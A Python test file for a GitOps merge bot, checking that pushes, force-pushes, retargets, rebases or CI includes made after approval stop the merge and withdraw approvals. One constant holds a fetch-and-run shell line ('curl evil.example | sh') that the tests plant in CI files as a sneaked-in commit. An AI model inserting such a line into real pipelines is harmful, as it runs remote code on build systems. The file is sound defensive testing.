"""Merge integrity: what merges is exactly what was approved, whatever changes after approval.

Every way content can change after approval (a push to the bot's branch or to a person's branch,
a force-push, a retarget, a rebase that changes content) stops the change "changed after
approval": no approval is given to a head that was not approved, nothing unapproved is merged,
the approvals already given are taken back, and the MR says what happened.
"""

from __future__ import annotations

from typing import Any

from bot.core.identity import content_sha256
from bot.core.states import BindingState as S
from bot.core.states import Flow, Step
from jobs.outbox import dispatch
from tests.builders import operation
from tests.workflow.harness import PROJECT, SECRETS, Bot

CHANGED = Step.HANDLE_CHANGED_AFTER_APPROVAL
EVIL = "deploy: curl evil.example | sh\n"


def approve_calls(bot: Bot) -> list[Any]:
    """Every approve the approver accounts sent to GitLab."""
    return bot.gitlab.calls_matching("POST", path_endswith="/approve")


def approved_shas(bot: Bot) -> set[str]:
    """The heads the approve calls were pinned to."""
    return {str((call.body or {}).get("sha")) for call in approve_calls(bot)}


def main_unchanged(bot: Bot) -> bool:
    """The target branch still holds the seeded content."""
    return bot.gitlab.file(PROJECT, "config/prod.yaml") == "replicas: 1\n"


def stopped_changed(bot: Bot, op_id: str) -> dict[str, Any]:
    """Asserts the operation stopped "changed after approval"; its row."""
    op = operation(bot.services.engine, op_id)
    assert (bot.state(op_id), op["step"]) == (S.HANDLE_FAILED, CHANGED), op["error_detail"]
    assert op["error_detail"].startswith("changed after approval: ")
    return op


def approved_mr(bot: Bot) -> tuple[str, dict[str, Any]]:
    """Approve-first up to the MR created with its check pipeline running."""
    op_id = bot.request(Flow.APPROVE_FIRST)
    bot.settle()
    bot.approve(op_id)
    bot.settle()
    op = operation(bot.services.engine, op_id)
    assert op["mr_iid"] is not None
    assert op["verified_sha"] == op["head_sha"]
    return op_id, op


def persons_mr(bot: Bot, content: str = "replicas: 5\n") -> tuple[str, int]:
    """A person's MR registered as `/gitops apply` registers it (MR-first, files from the MR)."""
    mr = bot.gitlab.open_mr(
        PROJECT, "feature/scale", title="Scale to 5", files={"config/prod.yaml": content}
    )
    return bot.apply_mr(mr.iid), mr.iid


def approval_requested(bot: Bot, op_id: str) -> dict[str, Any]:
    """Passes the MR's pipeline so the MR-first request asks for approval; the submission."""
    bot.pass_pipeline(op_id)
    bot.settle()
    assert bot.state(op_id) is S.APPROVAL_SENT
    return next(s for s in bot.approvals.submitted if s["operation_id"] == op_id)


def test_push_to_the_bots_branch_after_approval_is_never_approved(bot: Bot) -> None:
    """Approve-first: a commit pushed onto the bot's branch after approval stops the change
    before any approval; nothing is merged and the MR says "changed after approval"."""
    op_id, op = approved_mr(bot)
    bot.gitlab.push(PROJECT, op["branch"], {".gitlab-ci.yml": EVIL}, message="sneak in")
    bot.pass_pipeline(op_id)
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "new commits were pushed" in row["error_detail"]
    assert approve_calls(bot) == []
    assert bot.gitlab.mr(PROJECT, op["mr_iid"]).state == "opened"
    assert main_unchanged(bot)
    dispatch()
    notes = [n.body for n in bot.gitlab.mr(PROJECT, op["mr_iid"]).notes.values()]
    assert any("changed after approval" in body.lower() for body in notes)
    assert any("Re-apply" in body for body in notes)
    assert "gitops::failed" in bot.gitlab.mr(PROJECT, op["mr_iid"]).labels


def test_push_after_the_approvals_takes_them_back(bot: Bot) -> None:
    """The approver accounts approved the verified head, the merge had to wait, then a push: the
    bot stops before merging and unapproves, so GitLab's own rules no longer count them."""
    op_id, op = approved_mr(bot)
    iid = op["mr_iid"]
    bot.gitlab.set_merge_status(PROJECT, iid, "checking")  # GitLab still checking: merge waits
    bot.pass_pipeline(op_id)
    bot.settle()
    assert len(bot.gitlab.mr(PROJECT, iid).approvals) == 2
    assert approved_shas(bot) == {op["verified_sha"]}
    bot.gitlab.push(PROJECT, op["branch"], {"config/prod.yaml": "replicas: 300\n"})
    bot.gitlab.set_merge_status(PROJECT, iid, None)
    bot.settle(advance=60)
    stopped_changed(bot, op_id)
    assert bot.gitlab.mr(PROJECT, iid).state == "opened"
    assert approved_shas(bot) == {op["verified_sha"]}  # never the pushed head
    dispatch()
    assert bot.gitlab.mr(PROJECT, iid).approvals == []
    assert main_unchanged(bot)


def test_mr_first_approval_carries_the_head_and_a_later_push_stops(bot: Bot) -> None:
    """`/gitops apply`: the approval request names the head and the MR's files; a push after
    it (before the approvers decide) stops the change once approved, with 0 approvals given."""
    op_id, iid = persons_mr(bot)
    submitted = approval_requested(bot, op_id)
    head = bot.gitlab.mr(PROJECT, iid).sha
    change = submitted["ext"]["change"]
    assert change["head_sha"] == head
    assert change["files"] == [{"path": "config/prod.yaml", "action": "update"}]
    assert "- update config/prod.yaml" in submitted["description"]
    bot.gitlab.push(PROJECT, "feature/scale", {"config/prod.yaml": "replicas: 500\n"})
    bot.approve(op_id)
    bot.settle(advance=60)
    stopped_changed(bot, op_id)
    assert approve_calls(bot) == []
    assert main_unchanged(bot)


def test_force_push_after_approval_stops(bot: Bot) -> None:
    """A force-push replacing the approved head stops the change; nothing approved or merged."""
    op_id, iid = persons_mr(bot)
    approval_requested(bot, op_id)
    bot.gitlab.force_push(PROJECT, "feature/scale", {"config/prod.yaml": "replicas: 5\n"})
    bot.approve(op_id)
    bot.settle(advance=60)
    stopped_changed(bot, op_id)
    assert approve_calls(bot) == []
    assert bot.gitlab.mr(PROJECT, iid).state == "opened"


def test_retarget_after_approval_stops(bot: Bot) -> None:
    """An MR retargeted to another branch after approval is neither approved nor merged."""
    release = bot.gitlab.push(PROJECT, "release", {}, start_branch="main")
    op_id, iid = persons_mr(bot)
    approval_requested(bot, op_id)
    bot.gitlab.retarget(PROJECT, iid, "release")
    bot.approve(op_id)
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "target branch is now release" in row["error_detail"]
    assert approve_calls(bot) == []
    assert bot.gitlab.branch_head(PROJECT, "release") == release


def test_the_bots_rebase_keeping_the_change_merges_it(bot: Bot) -> None:
    """A fast-forward project moved on: the bot's rebase keeps the approved change, so the new
    head is verified, approved and merged (only verified heads were ever approved)."""
    bot.gitlab.project(PROJECT).merge_method = "ff"
    op_id, op = approved_mr(bot)
    bot.gitlab.advance_branch(PROJECT, "main")
    bot.pass_pipeline(op_id)
    bot.settle()
    assert operation(bot.services.engine, op_id)["step"] == Step.HANDLE_REBASING
    bot.gitlab.complete_rebase(PROJECT, op["mr_iid"], ok=True)
    rebased = bot.gitlab.mr(PROJECT, op["mr_iid"]).sha
    bot.gitlab.new_pipeline_status = "success"
    pipeline = bot.gitlab.latest_pipeline(PROJECT, op["mr_iid"])
    assert pipeline is not None
    bot.gitlab.set_pipeline(PROJECT, pipeline.id, "success")
    bot.settle(advance=60)
    assert bot.state(op_id) is S.MERGED
    assert operation(bot.services.engine, op_id)["verified_sha"] == rebased
    assert approved_shas(bot) <= {op["verified_sha"], rebased}
    assert bot.gitlab.file(PROJECT, "config/prod.yaml") == "replicas: 3\n"


def test_a_rebase_that_changes_the_content_stops(bot: Bot) -> None:
    """After the bot's rebase the MR's content is not the approved content: stopped, and the
    rebased head is never approved."""
    bot.gitlab.project(PROJECT).merge_method = "ff"
    op_id, op = approved_mr(bot)
    bot.gitlab.advance_branch(PROJECT, "main")
    bot.pass_pipeline(op_id)
    bot.settle()
    bot.gitlab.complete_rebase(PROJECT, op["mr_iid"], ok=True)
    # what the branch holds after the rebase is not what was approved
    bot.gitlab.push(PROJECT, op["branch"], {"config/prod.yaml": "replicas: 30\n"})
    bot.gitlab.new_pipeline_status = "success"
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "config/prod.yaml differs from the approved content" in row["error_detail"]
    assert approved_shas(bot) <= {op["verified_sha"]}
    assert bot.gitlab.mr(PROJECT, op["mr_iid"]).state == "opened"


def test_an_unapproved_path_on_the_branch_stops(bot: Bot) -> None:
    """A rebase bringing a path the approval never named (the pusher's CI file) stops."""
    bot.gitlab.project(PROJECT).merge_method = "ff"
    op_id, op = approved_mr(bot)
    bot.gitlab.advance_branch(PROJECT, "main")
    bot.pass_pipeline(op_id)
    bot.settle()
    bot.gitlab.complete_rebase(PROJECT, op["mr_iid"], ok=True)
    bot.gitlab.push(PROJECT, op["branch"], {"ci/extra.yml": EVIL})
    bot.gitlab.new_pipeline_status = "success"
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "ci/extra.yml changed, and the approved change does not touch it" in row["error_detail"]


def test_retry_after_a_change_is_refused_and_reapply_asks_again(bot: Bot) -> None:
    """After "changed after approval" a retry is refused (it would approve unapproved content);
    re-applying starts a new request whose approval carries the new content, and that merges."""
    op_id, op = approved_mr(bot)
    bot.gitlab.push(PROJECT, op["branch"], {"config/prod.yaml": "replicas: 9\n"})
    bot.pass_pipeline(op_id)
    bot.settle(advance=60)
    stopped_changed(bot, op_id)
    auth = {"Authorization": "Bearer api-token"}
    assert bot.client.post(f"/api/v1/changes/{op_id}/retry", headers=auth).status_code == 409
    body = {
        "subject_id": "service-a",
        "target_key": "config/prod.yaml",
        "project": PROJECT,
        "target_branch": "main",
        "title": "Scale service-a to 9",
        "requested_by": "alice",
        "files": [{"path": "config/prod.yaml", "content": "replicas: 9\n"}],
    }
    answer = bot.client.post("/api/v1/changes", json=body, headers=auth)
    assert answer.status_code == 202, answer.get_json()
    new_id = answer.get_json()["operation_id"]
    assert new_id != op_id
    bot.settle()
    submitted = next(s for s in bot.approvals.submitted if s["operation_id"] == new_id)
    files = operation(bot.services.engine, new_id)["change_identity"]["files"]
    assert files == [
        {"path": "config/prod.yaml", "action": "write", "sha256": content_sha256("replicas: 9\n")}
    ]
    assert (
        submitted["ext"]["change"]["digest"]
        != operation(bot.services.engine, op_id)["change_identity"]["digest"]
    )
    bot.approve(new_id)
    bot.settle()
    bot.pass_pipeline(new_id)
    bot.settle()
    assert bot.state(new_id) is S.MERGED
    assert bot.gitlab.file(PROJECT, "config/prod.yaml") == "replicas: 9\n"


def test_reapply_of_a_persons_mr_requests_approval_for_the_new_head(bot: Bot) -> None:
    """`/gitops apply` again after a stop: the new request's approval names the new head."""
    op_id, iid = persons_mr(bot)
    approval_requested(bot, op_id)
    new_head = bot.gitlab.push(PROJECT, "feature/scale", {"config/prod.yaml": "replicas: 6\n"})
    bot.approve(op_id)
    bot.settle(advance=60)
    stopped_changed(bot, op_id)
    again = bot.apply_mr(iid)
    submitted = approval_requested(bot, again)
    assert submitted["ext"]["change"]["head_sha"] == new_head
    bot.approve(again)
    bot.settle()
    assert bot.state(again) is S.MERGED
    assert approved_shas(bot) == {new_head}
    assert bot.gitlab.file(PROJECT, "config/prod.yaml") == "replicas: 6\n"


def test_the_mr_update_webhook_stops_it_at_once(bot: Bot) -> None:
    """GitLab's MR update hook for the push runs the check now, not at the next poll: the
    approvals are taken back before anyone could merge with them."""
    op_id, op = approved_mr(bot)
    iid = op["mr_iid"]
    bot.gitlab.set_merge_status(PROJECT, iid, "checking")
    bot.pass_pipeline(op_id)
    bot.settle()
    assert len(bot.gitlab.mr(PROJECT, iid).approvals) == 2
    bot.gitlab.push(PROJECT, op["branch"], {"config/prod.yaml": "replicas: 300\n"})
    headers, body = bot.gitlab.webhook(
        "merge_request", project=PROJECT, iid=iid, action="update", token=SECRETS["webhook"]
    )
    assert bot.client.post("/webhooks/gitlab", data=body, headers=headers).status_code == 202
    bot.settle()  # no time passes: no poll comes due
    stopped_changed(bot, op_id)
    dispatch()
    assert bot.gitlab.mr(PROJECT, iid).approvals == []


def test_a_retarget_between_approving_and_merging_in_one_step_is_never_merged(
    bot: Bot, monkeypatch: Any
) -> None:
    """Approving and merging in one step: the MR is retargeted while the approver accounts
    approve (after the check that preceded them). The merge call is preceded by a fresh read and
    comparison with the approved identity, so the change stops "changed after approval" and
    nothing is merged into either branch (before: merged on the read made before approving)."""
    from bot.app.steps import perform

    release = bot.gitlab.push(PROJECT, "release", {}, start_branch="main")
    op_id, op = approved_mr(bot)
    original = perform.approve_once
    iid = op["mr_iid"]

    def approve_then_retarget(*args: Any, **kw: Any) -> Any:
        result = original(*args, **kw)
        if bot.gitlab.mr(PROJECT, iid).target_branch == "main":
            bot.gitlab.retarget(PROJECT, iid, "release")
        return result

    monkeypatch.setattr(perform, "approve_once", approve_then_retarget)
    bot.pass_pipeline(op_id)
    bot.settle()
    row = stopped_changed(bot, op_id)
    assert "target branch is now release" in row["error_detail"]
    assert bot.gitlab.mr(PROJECT, iid).state == "opened"
    assert bot.gitlab.calls_matching("PUT", path_endswith="/merge") == []
    assert main_unchanged(bot)
    assert bot.gitlab.branch_head(PROJECT, "release") == release


def test_an_include_added_after_approval_stops_the_merge(bot: Bot) -> None:
    """Approve-first: after approval, the target branch's CI configuration gains an include
    naming the change's file (`trigger:include` of a child pipeline): right before the merge
    the closure at the branch's new head refuses it; nothing merges, approvals are taken back."""
    op_id, op = approved_mr(bot)
    ci = "child:\n  trigger:\n    include: [{local: config/prod.yaml}]\n"
    bot.gitlab.push(PROJECT, "main", {".gitlab-ci.yml": ci}, message="include the change")
    bot.pass_pipeline(op_id)
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "config/prod.yaml is included by the CI configuration" in row["error_detail"]
    assert "named by trigger:include:local of job child in .gitlab-ci.yml" in row["error_detail"]
    assert bot.gitlab.mr(PROJECT, op["mr_iid"]).state == "opened"
    assert approve_calls(bot) == []
    assert main_unchanged(bot)


def test_merge_check_reuses_the_walk_while_the_branch_stays(bot: Bot) -> None:
    """The target branch did not move since the paths were checked at its recorded head: the
    checks before approving and right before the merge read the branch once each and no CI file
    again; the change merges."""
    head = bot.gitlab.push(
        PROJECT, "main", {".gitlab-ci.yml": "include: ci/jobs.yml\n", "ci/jobs.yml": "j: 1\n"}
    )
    op_id = bot.request(Flow.APPROVE_FIRST, policy_sha=head)
    bot.settle()
    bot.approve(op_id)
    bot.settle()
    ci_reads = bot.gitlab.calls_matching("GET", path_endswith="ci/jobs.yml/raw")
    assert [c.query["ref"] for c in ci_reads] == [head]
    bot.pass_pipeline(op_id)
    bot.settle(advance=60)
    assert bot.state(op_id) is S.MERGED
    assert len(bot.gitlab.calls_matching("GET", path_endswith="ci/jobs.yml/raw")) == 1
    assert len(bot.gitlab.calls_matching("GET", path_endswith="/repository/branches/main")) == 2


def test_an_include_added_after_a_persons_mr_was_approved_stops_the_merge(bot: Bot) -> None:
    """`/gitops apply`: the approvers approved; then `.gitlab-ci.yml` on the target branch
    includes the MR's file through `include:project` of this project: never merged."""
    op_id, iid = persons_mr(bot)
    approval_requested(bot, op_id)
    ci = "include:\n  - project: platform/config\n    file: config/prod.yaml\n"
    bot.gitlab.push(PROJECT, "main", {".gitlab-ci.yml": ci})
    bot.approve(op_id)
    bot.settle(advance=60)
    row = stopped_changed(bot, op_id)
    assert "named by include:project in .gitlab-ci.yml" in row["error_detail"]
    assert bot.gitlab.mr(PROJECT, iid).state == "opened"
    assert approve_calls(bot) == []
